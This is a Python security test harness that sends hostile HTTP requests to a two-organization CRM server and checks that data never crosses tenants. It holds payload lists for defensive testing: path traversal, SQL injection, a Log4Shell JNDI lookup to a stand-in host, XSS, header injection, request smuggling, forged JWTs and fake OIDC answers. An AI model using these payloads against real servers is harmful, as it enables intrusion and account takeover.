"""Hostile requests to a server of two organizations, each answer judged.

`payroll` belongs to acme, the victim, and `other` to rival, whose people and programs attack. Each
organization's data contains a mark that no one else may read.
"""

from __future__ import annotations

import itertools
import json
import logging
import os
import random
import re
import socket
from collections import Counter
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import timedelta
from http.client import HTTPException, HTTPResponse
from pathlib import Path
from typing import Any
from unittest.mock import patch
from urllib.parse import parse_qsl, quote, urlencode, urlsplit

import jwt
from argon2 import PasswordHasher

from crmdeck.mcp import answer_http
from crmdeck.model import Choice, DecisionState, Role, Source, TokenScope
from crmdeck.server import Accounts
from crmdeck.server.connections import RequestLimits
from crmdeck.server.log import JsonFormatter
from crmdeck.workspace import ConnectionDraft
from tests.server.conftest import (
    OPPORTUNITY,
    PAIR,
    PASSWORD,
    House,
    build,
    serving,
    text_field,
    user,
)
from tests.server.identity_provider import CLIENT, IdentityProvider, new_key

VICTIM, RIVAL = "zqvictim", "zqrival"
TYPED = "zqtyped"
"""A secret that a client sends: no answer and no log may repeat it."""

_CLIENT_SECRET = "s3cret-of-the-server"
_LEAKS = re.compile(
    r'Traceback|File \\?"/|argon2|password_hash|token_hash|/tmp/|/home/|site-packages'
)
_ODD = (
    "\0",
    "%00",
    "..",
    "../../../../etc/passwd",
    "..\\..\\",
    "' OR 1=1 --",
    '"; DROP TABLE audit_entry; --',
    "{{7*7}}",
    "${jndi:ldap://evil.example}",
    "<script>alert(1)</script>",
    "\u202e\u0000\ufdd0",
    "\ud7ff\uffff\U0010ffff",
    "é" * 300,
    "a" * 5000,
    "-1",
    "1e309",
    "NaN",
    "9" * 400,
    "null",
    "[]",
    "",
    " ",
    "%",
    "%ff%fe",
    "\r\nSet-Cookie: session_token=x",
)


@dataclass(frozen=True)
class Hostile:
    """A request, the organization whose data its sender may read, and if it must be refused."""

    kind: str
    raw: bytes
    reads: str | None = None
    refused: bool = True


@dataclass
class Tally:
    """What was asked and answered, and which answers were wrong."""

    requests: Counter[str] = field(default_factory=Counter)
    statuses: Counter[int] = field(default_factory=Counter)
    wrong: list[str] = field(default_factory=list)
    read: int = 0
    """Answers with data that the sender may read: the others could have shown it."""

    def __str__(self) -> str:
        kinds = ", ".join(f"{number} {kind}" for kind, number in sorted(self.requests.items()))
        answers = ", ".join(f"{number} x {each}" for each, number in sorted(self.statuses.items()))
        return f"{self.requests.total()} hostile requests ({kinds}); answers: {answers}"


class Target:
    """A served workspace, and all that an attacker may know and hold."""

    def __init__(self, house: House, provider: IdentityProvider, dice: random.Random) -> None:
        self.house = house
        self.provider = provider
        self.dice = dice
        self.address = urlsplit(house.url)
        self.deck = house.app.state.deck
        self.secrets = {PASSWORD, TYPED, _CLIENT_SECRET}
        self._plant()
        self.theirs = house.ids["payroll"]
        self.own = house.ids["other"]
        workspace = house.workspace
        self.entries = [each.id for each in workspace.audit.entries(self.theirs)]
        self.events = [each.id for each in workspace.drift.report(self.theirs).events]
        self.decisions = [each.id for each in workspace.mappings.decisions(self.theirs)]
        self.victim_cookie = self._session("ada@acme.example", "acme")
        self.viewer_cookie = self._session("vera@acme.example", "acme")
        self.rivals = self._rivals()
        self.forged = self._forged()
        described = house.app.openapi()["paths"]
        self.operations = [
            (method.upper(), path) for path, methods in described.items() for method in methods
        ]
        self.mcp_tools = self._mcp_tools()

    def ask(self, raw: bytes) -> tuple[int, str, str]:
        """Return status, header and body of the answer; 0 if the connection was just closed."""
        place = (self.address.hostname or "", self.address.port or 0)
        with socket.create_connection(place, timeout=30) as client:
            try:
                client.sendall(raw)
                answer = HTTPResponse(client, method=raw.partition(b" ")[0].decode("latin-1"))
                answer.begin()
                body = answer.read()
            except (HTTPException, ConnectionError):
                return 0, "", ""
        return answer.status, str(answer.headers), body.decode("utf-8", "replace")

    def request(
        self, method: str, target: str, *headers: str, body: bytes = b"", host: str | None = None
    ) -> bytes:
        """Return the bytes of a request, with whatever is in its parts."""
        host = self.address.netloc if host is None else host
        lines = [f"{method} {target} HTTP/1.1", f"Host: {host}", "Connection: close", *headers]
        sized = any(each.lower().startswith(("content-length", "transfer-enc")) for each in headers)
        if body and not sized:
            lines.append(f"Content-Length: {len(body)}")
        return "\r\n".join(lines).encode("utf-8", "replace") + b"\r\n\r\n" + body

    def body_of(self, path: str) -> bytes:
        """Return a body that the operation accepts."""
        return json.dumps(_BODIES.get(path.rpartition("}")[2], {})).encode()

    def kept(self) -> list[Any]:
        """Return all of the victim's that must not change."""
        workspace = self.house.workspace
        return [
            workspace.audit.entries(self.theirs),
            workspace.connections.get(self.theirs),
            workspace.drift.report(self.theirs).events,
            workspace.mappings.decisions(self.theirs),
            [each for each in self.deck.tokens.all() if each.organization == "acme"],
            self.deck.accounts.book(),
            [self.ask(self.request("GET", "/api/auth/session", self.victim_cookie))[0]],
        ]

    def _plant(self) -> None:
        house = self.house
        workspace = house.workspace
        folders = {"payroll": VICTIM, "other": RIVAL}
        for name, mark in folders.items():
            folder = house.folder.parent / mark
            folder.mkdir()
            if name not in house.ids:
                draft = ConnectionDraft(
                    name=f"{mark}-portal",
                    source=Source.FILES,
                    platform="salesforce",
                    path=str(folder),
                )
                house.ids[name] = workspace.connections.add(draft).id
            ref = house.ids[name]
            place = folder if name == "payroll" else house.folder
            for fields in ([], [text_field(f"{mark}_c"), text_field("Both__c", label=mark)]):
                described = {**OPPORTUNITY, "fields": [*OPPORTUNITY["fields"], *fields]}
                (place / "Opportunity.json").write_text(json.dumps(described))
                workspace.refreshes.run(ref)
            choice = Choice(
                partner_field="estimatedValue",
                state=DecisionState.ACCEPTED,
                crm_field="Amount",
                note=mark,
            )
            workspace.mappings.record_decisions(ref, PAIR, [choice])
            events = [each.id for each in workspace.drift.report(ref).events]
            workspace.drift.acknowledge(events[:1], f"note {mark}")
        accounts = Accounts(workspace)
        accounts.set_organization("acme", (house.ids["payroll"], house.ids["acme"]))
        people = [user("vic@rival.example", "rival", role=Role.VIEWER)]
        people += [user("root@rival.example", "rival", role=Role.ADMIN)]
        self.deck.accounts._document.change(
            lambda book: book.model_copy(update={"users": (*book.users, *people)})
        )

    def _session(self, email: str, organization: str) -> str:
        token, _ = self.deck.sessions.start(self.deck.accounts.user(email), organization)
        self.secrets.add(token)
        return f"Cookie: session_token={token}"

    def _token(self, name: str, organization: str, *scopes: TokenScope) -> str:
        expires = self.house.workspace.now + timedelta(days=30)
        text, _ = self.deck.tokens.create(name, organization, scopes, expires)
        self.secrets.add(text)
        return str(text)

    def _rivals(self) -> list[str]:
        emails = ("vic@rival.example", "rob@rival.example", "root@rival.example")
        cookies = [self._session(email, "rival") for email in emails]
        # A member of both, who works for rival now.
        cookies.append(self._session("mona@acme.example", "rival"))
        tokens = [self._token(f"t-{each}", "rival", each) for each in TokenScope]
        tokens.append(self._token("t-all", "rival", *TokenScope))
        bearers = [f"Authorization: Bearer {each}" for each in tokens]
        return [
            *cookies,
            *bearers,
            cookies[0].replace("Cookie: session_token=", "Authorization: Bearer "),
        ]

    def _forged(self) -> list[str]:
        """Return credentials that are none: expired, revoked, cut, changed, of another place."""
        deck, now = self.deck, self.house.workspace.now
        good = self._token("nightly", "acme", *TokenScope)
        revoked = self._token("revoked", "acme", *TokenScope)
        deck.tokens.revoke("revoked", "acme")
        expired, _ = deck.tokens.create("old", "acme", list(TokenScope), now + timedelta(days=1))
        deck.tokens._document.change(
            lambda book: book.model_copy(
                update={
                    "tokens": tuple(
                        each.model_copy(update={"expires_at": now - timedelta(days=1)})
                        if each.name == "old"
                        else each
                        for each in book.tokens
                    )
                }
            )
        )
        self.secrets.add(expired)
        hashed = next(each.token_hash for each in deck.tokens.all() if each.name == "nightly")
        ended = self._session("dana@acme.example", "acme").rpartition("=")[2]
        found = deck.sessions.find(ended, deck.accounts.book())
        assert found is not None
        deck.sessions.end(found[0])
        session = self.victim_cookie.rpartition("=")[2]
        key = new_key()
        tokens = [
            revoked, expired, ended, hashed, good[:-1], good + "A", good.upper(), good.lower(),
            good.replace("crmdeck_", ""), good.replace("crmdeck_", "CRMDECK_"), good[::-1],
            f"crmdeck_{session}", f"crmdeck_{'A' * 43}", session[:-1], session + "=",
            f"{session}%00",
            f"{session}, {good[:-2]}", "crmdeck_", "null", "undefined", "x" * 6000, "é" * 40,
            jwt.encode({"sub": "ada@acme.example", "org": "acme"}, key, "RS256"),
            jwt.encode({"sub": "ada@acme.example", "org": "acme"}, "", "none"),
        ]  # fmt: skip
        lines = [f"Authorization: Bearer {each}" for each in tokens]
        lines += [f"Cookie: session_token={each}" for each in tokens]
        # A service token isn't a session, and a name or password isn't a token.
        lines += [f"Cookie: session_token={good}{end}" for end in ("; session_token=", "x", "%20")]
        lines += [f"Authorization: {each} {good}" for each in ("Basic", "Token", "Digest", "")]
        lines += ["X-User: ada@acme.example", "X-Forwarded-User: ada@acme.example", "X-Nothing: 1"]
        return [*lines, "Authorization: Basic YWRhQGFjbWUuZXhhbXBsZTp6cXR5cGVk", "Cookie: =;;,"]

    def _mcp_tools(self) -> list[dict[str, Any]]:
        body = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "tools/list", "params": {}})
        raw = self.request("POST", "/mcp", self.rivals[0], *_FOR_MCP, body=body.encode())
        _, _, answer = self.ask(raw)
        tools: list[dict[str, Any]] = json.loads(answer)["result"]["tools"]
        return tools


_JSON = "Content-Type: application/json"
_FOR_MCP = (_JSON, "Accept: application/json, text/event-stream")
_BODIES: dict[str, dict[str, Any]] = {
    "/mapping/ai-suggest": {"objectPair": PAIR},
    "/mapping/decisions": {
        "objectPair": PAIR,
        "choices": [{"partnerField": "estimatedValue", "state": "rejected", "crmField": "Name"}],
    },
    "/mapping/undo": {"objectPair": PAIR},
    "/drift/acknowledge": {"eventIds": ["x"]},
    "/drift/reopen": {"eventIds": ["x"]},
    "/api/tokens": {"name": "planted", "scopes": ["read"]},
    "/api/auth/sign-in/email": {"email": "ada@acme.example", "password": TYPED},
    "/api/auth/password": {"currentPassword": TYPED, "newPassword": f"{TYPED} is long enough"},
    "/api/auth/organization": {"organizationId": "acme"},
}


def crossing(at: Target) -> Iterator[Hostile]:
    """Ask for the other organization's connection, by its ID in all its forms."""
    key = at.theirs
    forms = [
        key, key.upper(), key.replace("-", ""), key.replace("-", "%2D"), f"{{{key}}}",
        f"urn:uuid:{key}", f"{key}%00", f"{key}.", f"{key}%20", f"{key};{at.own}",
        f"{key},{at.own}",
        f"{at.own}/../{key}", f"{at.own}%2f..%2f{key}", f"{key}%2fschema%3f", f"{key}%23",
        f"{VICTIM[:-2]}-portal", "*", "%25", f"{key}%0d%0aX-Injected:%201",
    ]  # fmt: skip
    while True:
        method, path = at.dice.choice(
            [each for each in at.operations if "integration_id" in each[1]]
        )
        target = path.replace("{integration_id}", at.dice.choice(forms))
        who = at.dice.choice([*at.rivals, *at.rivals, at.dice.choice(at.forged)])
        body = at.body_of(path) if method == "POST" else b""
        yield Hostile("crossing", at.request(method, target, who, _JSON, body=body))


def foreign_parts(at: Target) -> Iterator[Hostile]:
    """Read all of one's own, and name the other's changes, decisions and cursors there."""
    base = f"/api/integrations/{at.own}"
    cursors = [*at.events, *at.entries, *at.decisions, at.theirs, "0", "-1", "9" * 30, "' OR 1=1"]
    lists = ("schema", "schema?objectType=Opportunity", "drift", "audit", "mapping/decisions")
    whole = ("", *(f"/{at.own}/{each}" for each in (*lists, "status", "schemas")))
    while True:
        for path in (whole[-1], at.dice.choice(whole)):
            raw = at.request("GET", f"/api/integrations{path}", at.dice.choice(at.rivals[:4]))
            yield Hostile("foreign parts", raw, RIVAL, refused=False)
        for path in at.dice.sample(lists, 3):
            target = f"{base}/{path}{'&' if '?' in path else '?'}"
            cursor = quote(at.dice.choice(cursors))
            target += f"limit={at.dice.choice((1, 2, 1000))}&cursor={cursor}"
            raw = at.request("GET", target, at.dice.choice((at.rivals[1], at.rivals[-2])))
            yield Hostile("foreign parts", raw, RIVAL, refused=False)
        for path, body in (
            ("drift/acknowledge", {"eventIds": at.events, "note": "mine now"}),
            ("drift/reopen", {"eventIds": [*at.events, at.theirs]}),
            ("mapping/ai-suggest", {"objectPair": PAIR}),
            ("mapping/undo", {"objectPair": PAIR, "decisionId": at.dice.choice(at.decisions)}),
        ):
            sent = json.dumps(body).encode()
            raw = at.request("POST", f"{base}/{path}", at.rivals[1], _JSON, body=sent)
            yield Hostile("foreign parts", raw, RIVAL, refused=path.endswith("undo"))


def credentials(at: Target) -> Iterator[Hostile]:
    """Show forged, expired, revoked and misplaced credentials."""
    targets = [
        ("GET", "/api/integrations"), ("GET", f"/api/integrations/{at.theirs}/schemas"),
        ("GET", "/api/auth/session"), ("GET", "/api/tokens"), ("POST", "/mcp"),
        ("POST", f"/api/integrations/{at.theirs}/disconnect"), ("DELETE", "/api/tokens/nightly"),
    ]  # fmt: skip
    mcp = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "tools/list", "params": {}}).encode()
    while True:
        for line in at.dice.sample(at.forged, len(at.forged)):
            method, target = at.dice.choice(targets)
            body = mcp if target == "/mcp" else b""
            yield Hostile("credentials", at.request(method, target, line, *_FOR_MCP, body=body))


def beyond_role(at: Target) -> Iterator[Hostile]:
    """Do what the role or the scope doesn't allow."""
    writes = [
        (method, path.replace("{integration_id}", at.theirs), at.body_of(path))
        for method, path in at.operations
        if "integration_id" in path and method == "POST" and not path.endswith("ai-suggest")
    ]
    manage = [("GET", "/api/tokens", b""), ("DELETE", "/api/tokens/nightly", b"")]
    manage += [("POST", "/api/tokens", at.body_of("/api/tokens"))]
    switch = [("POST", "/api/auth/organization", at.body_of("/api/auth/organization"))]
    session = [("GET", "/api/auth/session", b""), ("POST", "/api/auth/sign-out-everywhere", b"")]
    session += [("POST", "/api/auth/password", at.body_of("/api/auth/password"))]
    bearers = at.rivals[4:-1]
    while True:
        for who, what in (
            (at.viewer_cookie, at.dice.choice([*writes, *manage])),
            (at.rivals[0], at.dice.choice(manage)),
            (at.rivals[1], at.dice.choice(manage)),
            (at.rivals[2], ("DELETE", "/api/tokens/nightly", b"")),
            (at.dice.choice(at.rivals[:3]), at.dice.choice(switch)),
            (at.dice.choice(bearers), at.dice.choice([*manage, *switch, *session])),
        ):
            method, target, body = what
            yield Hostile("beyond the role", at.request(method, target, who, _JSON, body=body))


def queries(at: Target) -> Iterator[Hostile]:
    """Send parameters that are unknown, repeated, out of range, or no text at all."""
    names = [
        "limit",
        "cursor",
        "since",
        "atLeast",
        "objectType",
        "acknowledged",
        "event",
        "objectPair",
    ]
    names += (
        "organization",
        "organizationId",
        "connection",
        "limit[]",
        "__proto__",
        "debug",
        "%00",
    )
    while True:
        path = at.dice.choice(
            ("", "/schema", "/schemas", "/drift", "/audit", "/mapping/decisions", "/status")
        )
        base = "/api/integrations" + (f"/{at.own}{path}" if path else "")
        name, value = at.dice.choice(names), at.dice.choice(_ODD)
        pair = f"{quote(name, '%')}={quote(value, '%')}"
        twice = f"{pair}&{pair}" if at.dice.random() < 0.2 else pair
        raw = at.request("GET", f"{base}?{twice}", at.dice.choice((at.rivals[1], at.rivals[-2])))
        yield Hostile("queries", raw, RIVAL, refused=False)


def paths(at: Target) -> Iterator[Hostile]:
    """Ask for addresses that a careless server would read otherwise."""
    key = at.theirs
    targets = [
        "/api/../users.json", "/api/%2e%2e/users.json", "/api/..%2f..%2fetc%2fpasswd",
        "//api/integrations",
        "/api//integrations", "/api/integrations/", "/API/integrations",
        "/api/integrations%2f" + key,
        "/api/integrations\\" + key, "/api/integrations/..;/tokens", "/api/%c0%af%c0%af", "/%00",
        "/\u202e",
        "/api/openapi.json/..", "/metrics", "/docs", "/redoc", "/.env", "/users.json",
        "/api/tokens/..%2f",
        "/api/tokens/%2e%2e", "/api/tokens/nightly%00", "http://evil.example/api/integrations",
        "*", "",
        f"/api/integrations/{'a' * 20000}", f"/api/integrations/{'%41' * 3000}/schema",
        "/" + "../" * 500,
        f"/api/integrations/{at.own}/..%2f{key}/schema", f"/api/integrations/{key}/schema;x=1",
        "/api/%",
        f"/api/integrations/{at.own}/../{key}/schema", "/mcp/", "/mcp/../api/tokens",
        "/api/integrations#x",
        f"/api/integrations/{key}/schema\tHTTP/1.1", "/api/integrations/%e2%80%ae",
        "/api/%u002e%u002e",
    ]  # fmt: skip
    while True:
        for target in at.dice.sample(targets, len(targets)):
            line = at.dice.choice((at.rivals[2], at.rivals[-2], "X-None: 1"))
            yield Hostile(
                "paths", at.request(at.dice.choice(("GET", "GET", "POST", "DELETE")), target, line)
            )


def methods(at: Target) -> Iterator[Hostile]:
    """Use methods that the address doesn't have, or a header that names another one."""
    names = [
        "PUT",
        "PATCH",
        "DELETE",
        "HEAD",
        "OPTIONS",
        "TRACE",
        "CONNECT",
        "PROPFIND",
        "get",
        "G" * 200,
    ]
    names += ["GET\0", "SEARCH", "LINK", "_", "PRI"]
    while True:
        for name in at.dice.sample(names, len(names)):
            _, path = at.dice.choice(at.operations)
            target = path.replace("{integration_id}", at.theirs).replace("{name}", "nightly")
            override = at.dice.choice(("X-HTTP-Method-Override: GET", "X-Method: DELETE"))
            yield Hostile("methods", at.request(name, target, at.rivals[2], override))


def bodies(at: Target) -> Iterator[Hostile]:
    """Send bodies that are too large, too deep, too odd, or of another type."""
    good = _BODIES["/mapping/decisions"]
    deep = b"[" * 100_000
    nested = b'{"objectPair":' * 20_000
    own = f"/api/integrations/{at.own}"
    paths = [f"{own}{rest}" for rest in _BODIES if rest.startswith(("/mapping", "/drift"))]
    paths += ["/api/auth/sign-in/email", "/api/auth/organization", "/api/tokens", "/mcp"]
    kinds = [
        "application/json",
        "text/plain",
        "application/xml",
        "application/x-www-form-urlencoded",
    ]
    kinds += ["multipart/form-data; boundary=x", "application/json; charset=utf-7", "", "a/b\tc"]
    raws = [
        deep, nested, b"", b"null", b"[]", b"0", b"NaN", b'"\\ud800"', b"\xff\xfe{}", b"{",
        b"<a/>", b"a=b",
        b'{"objectPair": NaN}', b'{"email": {"$ne": 1}, "password": {"$ne": 1}}',
        b"[" * 900 + b"]" * 900,
        b'{"objectPair": "a--b", "objectPair": "c--d", "choices": []}',
        b" " * 1_048_577, b"1" * 100_000,
        json.dumps({**good, "choices": good["choices"] * 1001}).encode(),
        b'{"eventIds": ["\\u0000"]}',
        json.dumps({"eventIds": ["x"], "note": "\ud800\0" * 100}).encode(),
        b'{"eventIds": [1e400]}',
        json.dumps({"objectPair": f"{'a' * 90}--{'b' * 90}", "choices": good["choices"]}).encode(),
        json.dumps({"objectPair": "a\0--\ud800", "choices": good["choices"]}).encode(),
        json.dumps({**good, "actor": "ceo", "connectionId": at.theirs}).encode(),
        json.dumps({"name": "../x", "scopes": ["read", "admin"], "organization": "acme"}).encode(),
        json.dumps({"name": "y", "scopes": ["read"], "days": 10**30}).encode(),
        json.dumps({"organizationId": "acme\0"}).encode(), b'{"organizationId": "\\udfff"}',
        json.dumps({"jsonrpc": "2.0", "id": 10**400, "method": "tools/call"}).encode(),
        json.dumps({"email": f"{'x' * 240}@{'y' * 500}", "password": TYPED * 500}).encode(),
        json.dumps({"email": "\ud800@\0", "password": TYPED}).encode(),
        json.dumps({"email": "ada@acme.example", "password": [TYPED], "admission": TYPED}).encode(),
    ]  # fmt: skip
    for value in _ODD:
        raws.append(
            json.dumps({"objectPair": f"{value}--Opportunity", "decisionId": value}).encode()
        )
        choice = {
            **good["choices"][0],
            "crmField": value,
            "valueMap": {value: value},
            "note": value,
        }
        raws.append(json.dumps({"objectPair": PAIR, "choices": [choice]}).encode())
    while True:
        for body in at.dice.sample(raws, len(raws)):
            kind = at.dice.choice(("application/json", "application/json", *kinds))
            extra = at.dice.choice(("X-None: 1", "Content-Encoding: gzip", "Expect: 100-continue"))
            target = at.dice.choice(paths)
            if TYPED.encode() in body:
                target = "/api/auth/sign-in/email"
            who = at.dice.choice((at.rivals[1], at.rivals[2], at.rivals[-2], "X-None: 2"))
            raw = at.request(
                "POST", target, who, f"Content-Type: {kind}", extra, _FOR_MCP[1], body=body
            )
            yield Hostile("bodies", raw, RIVAL if who != "X-None: 2" else None, refused=False)


def headers(at: Target) -> Iterator[Hostile]:
    """Send headers that lie, repeat, or end a line too early."""
    target = f"/api/integrations/{at.theirs}/schema"
    rival = at.rivals[1]
    lines = [
        ("X-Original-URL: /api/tokens",), ("X-Rewrite-URL: /api/tokens",),
        ("X-Forwarded-Host: evil.example",),
        ("X-Forwarded-For: 127.0.0.1",),
        ("Forwarded: for=127.0.0.1;host=evil.example;proto=https",),
        ("X-Forwarded-Proto: https", "X-Forwarded-Prefix: /../"), ("Host: evil.example",),
        ("X-A: b\nX-Injected: 1",), ("X-A: b\0c",), (" folded: 1",), ("X-A: b\r\n c",),
        ("NoColon",),
        ("X-A : b",), ("Transfer-Encoding: chunked", "Content-Length: 4"), ("Content-Length: 4",
        "Content-Length: 5"),
        ("Content-Length: -1",), ("Content-Length: 9" + "9" * 40,), ("Content-Length: 0x10",),
        ("Transfer-Encoding: gzip, chunked",), ("Transfer-Encoding: xchunked",),
        ("If-None-Match: *",),
        ("If-None-Match: " + "W/\"a\"," * 1000,), ("Range: bytes=0-10",),
        ("Accept-Encoding: gzip;q=NaN",),
        tuple(f"X-{n}: {n}" for n in range(300)), ("X-Long: " + "a" * 70_000,),
        ("Cookie: " + "a=b; " * 3000,),
        (rival.replace("=", "=x; session_token="),), (f"{rival}; session_token={'x' * 43}",),
        ("Authorization: Bearer", "Authorization: Bearer x"), ("Upgrade: websocket",
        "Connection: Upgrade"),
        ("Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__"), ("Origin: https://evil.example",),
        ("Cookie: session_token=\"" + rival.rpartition("=")[2] + "\"",),
        ("Cookie: known_device=" + "x" * 5000,),
    ]  # fmt: skip
    hosts = (
        "evil.example",
        "evil.example:80",
        "",
        "a b",
        "[::1",
        "127.0.0.1.evil.example",
        "localhost@evil",
        "é",
        "\0",
    )
    while True:
        for extra in at.dice.sample(lines, len(lines)):
            first = () if extra[0].startswith(("Cookie", "Authorization")) else (rival,)
            yield Hostile("headers", at.request("GET", target, *first, *extra))
        for host in hosts:
            own = f"/api/integrations/{at.own}/schema"
            yield Hostile("headers", at.request("GET", own, rival, host=host))


def other_sites(at: Target) -> Iterator[Hostile]:
    """Send from a page of another site, with the cookie that the victim's browser adds."""
    origins = [
        "Origin: https://evil.example", "Origin: null", "Origin: http://[",
        "Sec-Fetch-Site: cross-site",
        "Sec-Fetch-Site: same-site", f"Origin: https://{at.address.netloc}.evil.example",
        f"Origin: http://{at.address.hostname}:1", f"Origin: http://user@{at.address.netloc}",
        f"Origin: ftp://evil.example/{at.address.netloc}",
    ]  # fmt: skip
    kinds = [
        "text/plain",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "application/json",
    ]
    writes = [each for each in at.operations if each[0] != "GET"]
    while True:
        method, path = at.dice.choice(writes)
        target = path.replace("{integration_id}", at.theirs).replace("{name}", "nightly")
        kind = f"Content-Type: {at.dice.choice(kinds)}"
        lines = (at.victim_cookie, at.dice.choice(origins), kind)
        yield Hostile("other sites", at.request(method, target, *lines, body=at.body_of(path)))


def sign_ins(at: Target) -> Iterator[Hostile]:
    """Guess, and name people and passwords that are none."""
    emails = (
        "ada@acme.example",
        "ADA@ACME.EXAMPLE ",
        "ada@acme.example\0",
        "' OR 1=1 --",
        "a@b",
        TYPED,
        *_ODD,
    )
    while True:
        body = {
            "email": at.dice.choice(emails),
            "password": at.dice.choice((TYPED, "", TYPED * 200, "\0")),
        }
        if at.dice.random() < 0.3:
            body |= {"admission": "x" * 43, "role": "admin", "organizationId": "acme"}
        sent = json.dumps(body).encode()
        yield Hostile("sign-ins", at.request("POST", "/api/auth/sign-in/email", _JSON, body=sent))


def provider_answers(at: Target) -> Iterator[Hostile]:
    """Bring answers of the identity provider that are replayed, mixed up or forged."""
    provider, foreign = at.provider, new_key()
    honest = provider.signed

    def claiming(**more: object) -> Any:
        return lambda claims: honest({**claims, **more})

    forgeries = [
        claiming(nonce="x"), claiming(aud="another"), claiming(iss="https://evil.example"),
        claiming(exp=1),
        claiming(email_verified=False), claiming(email_verified="true"), claiming(aud=[CLIENT,
        "b"]),
        claiming(email="ada@acme.example"), claiming(email="\0@\n"), claiming(groups=["nothing"]),
        lambda claims: jwt.encode(claims, foreign, "RS256", headers={"kid": provider.kid}),
        lambda claims: jwt.encode(claims, "", "none", headers={"kid": provider.kid}),
        lambda claims: honest(claims)[:-4] + "AAAA", lambda claims: "a.b.c", lambda claims: "",
    ]  # fmt: skip
    path = "/api/auth/oidc/callback"

    def begin() -> tuple[dict[str, str], str]:
        _, header, _ = at.ask(at.request("GET", "/api/auth/oidc/sign-in"))
        [cookie] = re.findall(r"oidc_state=([^;]+)", header)
        [location] = re.findall(r"(?im)^location: (\S+)", header)
        back = provider.authorize(dict(parse_qsl(urlsplit(location).query)))
        answer = dict(parse_qsl(urlsplit(back).query))
        at.secrets.update((answer["code"], answer["state"], *cookie.split(".")))
        return answer, f"Cookie: oidc_state={cookie}"

    while True:
        theirs, their_cookie = begin()
        mine, my_cookie = begin()
        for query, line in (
            (theirs, "X-None: 1"),
            (theirs, my_cookie),
            (mine, their_cookie),
            ({**mine, "code": theirs["code"]}, my_cookie),
            ({**mine, "iss": "https://evil.example"}, my_cookie),
            ({**mine, "state": ""}, my_cookie),
            ({**mine, "error": "<b>\r\nX-Injected: 1"}, my_cookie),
            ({"state": mine["state"]}, my_cookie),
            (mine, "Cookie: oidc_state=.."),
            (mine, f"Cookie: oidc_state={mine['state']}.."),
            ({**mine, "code": "x" * 5000}, my_cookie),
        ):
            yield Hostile("provider", at.request("GET", f"{path}?{urlencode(query)}", line))
        for sign in at.dice.sample(forgeries, 3):
            query, line = begin()
            provider.sign = sign
            yield Hostile("provider", at.request("GET", f"{path}?{urlencode(query)}", line))
            provider.sign = honest
        # It was redeemed by the sign-in that the forgery ended.
        yield Hostile("provider", at.request("GET", f"{path}?{urlencode(query)}", line))


def assistants(at: Target) -> Iterator[Hostile]:
    """Ask the tools of assistants about the other organization."""
    refs = [at.theirs, at.theirs.upper(), f"{VICTIM[:-2]}-portal", "payroll", "*", "%", *_ODD]
    while True:
        tool = at.dice.choice(at.mcp_tools)
        names = tool["inputSchema"].get("properties", {})
        given: dict[str, object] = {name: at.dice.choice(refs) for name in names}
        if at.dice.random() < 0.5:
            given |= {"pair": PAIR, "limit": at.dice.choice((1, -1, 10**9))}
        call = {"name": at.dice.choice((tool["name"], "../status", "decide")), "arguments": given}
        body = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": call}
        if at.dice.random() < 0.1:
            body = {**body, "method": at.dice.choice(("resources/read", "initialize", "x", ""))}
        sent = json.dumps(body).encode()
        who = at.dice.choice((at.rivals[0], at.rivals[2], at.rivals[-2], at.rivals[-1]))
        yield Hostile(
            "assistants",
            at.request("POST", "/mcp", who, *_FOR_MCP, body=sent),
            RIVAL,
            refused=False,
        )


KINDS = (
    crossing, foreign_parts, credentials, beyond_role, queries, paths, methods, bodies, headers,
    other_sites,
    sign_ins, provider_answers, assistants,
)  # fmt: skip


def attack(folder: Path, requests: int, seed: int, database: str | None = None) -> Tally:
    """Send so many requests of all kinds in turn, and judge each answer, the log and the data.

    The workspace is in `folder`, or in an empty database.
    """
    tally = Tally()
    with _log_kept() as log, _target(folder, random.Random(seed), database) as at:
        before = at.kept()
        kinds: Sequence[Iterator[Hostile]] = [kind(at) for kind in KINDS]
        for hostile in itertools.islice(map(next, itertools.cycle(kinds)), requests):
            status, header, body = at.ask(hostile.raw)
            tally.requests[hostile.kind] += 1
            tally.statuses[status] += 1
            tally.read += hostile.reads is not None and hostile.reads in body
            for fault in _faults(at, hostile, status, header, body):
                shown = hostile.raw[:300].decode("utf-8", "replace")
                tally.wrong.append(f"{fault}\n    {shown!r}\n    {status} {body[:300]!r}")
        if at.kept() != before:
            tally.wrong.append("data of the victim changed")
        lines = "\n".join(log)
        for secret in at.secrets:
            if secret in lines:
                where = next(line for line in log if secret in line)
                tally.wrong.append(f"a secret is in the log: {where[:300]}")
        tally.wrong += [f"logged: {line[:1500]}" for line in log if '"exception"' in line]
    return tally


def _faults(at: Target, hostile: Hostile, status: int, header: str, body: str) -> Iterator[str]:
    if status >= 500:
        yield "the server failed"
    if hostile.refused and status < 400 and status not in (0,):
        yield "a request that must be refused was answered"
    for mark in (VICTIM, RIVAL):
        if mark != hostile.reads and mark in body + header:
            yield f"data of {mark} crossed"
    if found := _LEAKS.search(body):
        yield f"the answer shows {found[0]}"
    if re.search(r"(?im)^(x-injected|access-control-allow)", header):
        yield "the header was written by the client"
    if re.search(r"(?i)session_token=[^\";]", header):
        yield "a session was given"
    for secret in at.secrets:
        if secret in body + header:
            yield "the answer repeats a secret"


@contextmanager
def _target(folder: Path, dice: random.Random, database: str | None) -> Iterator[Target]:
    home = folder / "home"
    home.mkdir(parents=True)
    hasher = PasswordHasher(time_cost=1, memory_cost=8, parallelism=1)
    with (
        IdentityProvider() as provider,
        patch("crmdeck.server.passwords._hasher", hasher),
        patch.dict(os.environ, {"CRMDECK_OIDC_CLIENT_SECRET": _CLIENT_SECRET}),
    ):
        (home / "settings.toml").write_text(
            (f'database = "{database}"\n' if database else "")
            + f'oidc_issuer = "{provider.issuer}"\noidc_client_id = "{CLIENT}"\n'
            '[oidc_groups]\nrivals = "rival:admin"\n'
        )
        provider.person = {"sub": "u-1", "email": "olga@rival.example", "email_verified": True}
        provider.person["groups"] = ["rivals"]
        house = build(home, folder / "export", answer_http)
        with serving(house.app, RequestLimits(header=2, body=2)) as url:
            house.url = url
            yield Target(house, provider, dice)


@contextmanager
def _log_kept() -> Iterator[list[str]]:
    lines: list[str] = []

